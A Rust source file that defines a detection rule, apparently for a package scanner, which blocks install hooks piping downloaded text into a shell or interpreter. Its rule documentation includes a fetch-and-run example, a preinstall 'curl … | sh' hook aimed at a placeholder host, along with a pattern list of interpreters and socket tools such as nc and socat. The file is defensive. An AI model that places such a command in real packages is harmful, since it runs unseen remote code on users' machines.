//! P9: a command line downloads and runs.

use super::remote_code::weigh_remote;
use super::{FACTS, Proof, Weight};
use crate::doc::RuleDoc;
use customs_model::{Flow, Inspection, SinkKind, SourceKind, printable};

pub(in crate::rule) static RULE: Proof = Proof {
    doc: &DOC,
    weigh,
    says,
};

static DOC: RuleDoc = RuleDoc {
    id: "download-cradle",
    title: "No command line fetches what it runs.",
    what: "A hook, script or string that reaches a shell downloads text and gives it to an interpreter, in one \
           line or over a file, at install, start, import or when a folder is opened.",
    why: "The shortest dropper there is: nothing of what runs stands in the package.",
    effect: "block",
    ends: "never by itself; an exemption names the release",
    settings: &[],
    facts: FACTS,
    fires: &["`\"preinstall\": \"curl -s https://a.invalid/x | sh\"`."],
    silent: &["The same text in a README or in a message that is printed."],
    learnt_from: "hundreds of packages a year; `incidents` of 2024 to 2026.",
};

/// Programs that a command line gives text to.
const INTERPRETERS: [&str; 21] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "fish",
    "PowerShell",
    "powershell",
    "pwsh",
    "cmd",
    "eval",
    "source",
    ".",
    "python",
    "python3",
    "node",
    "npx",
    "perl",
    "ruby",
    "a shell on a socket",
];

pub(super) fn is_cradle(flow: &Flow) -> bool {
    flow.source == SourceKind::Remote
        && flow.sink == SinkKind::Process
        && (INTERPRETERS.contains(&flow.sink_name.as_str())
            || matches!(
                flow.sink_name.as_str(),
                "nc" | "ncat" | "socat" | "php" | "osascript" | "bunx" | "pnpx"
            ))
}

fn weigh(flow: &Flow, inspection: &Inspection) -> Weight {
    if is_cradle(flow) {
        weigh_remote(flow, inspection)
    } else {
        Weight::None
    }
}

fn says(flow: &Flow) -> String {
    format!(
        "a command line gives {} to {}",
        printable(&flow.source_name, 120),
        printable(&flow.sink_name, 40)
    )
}
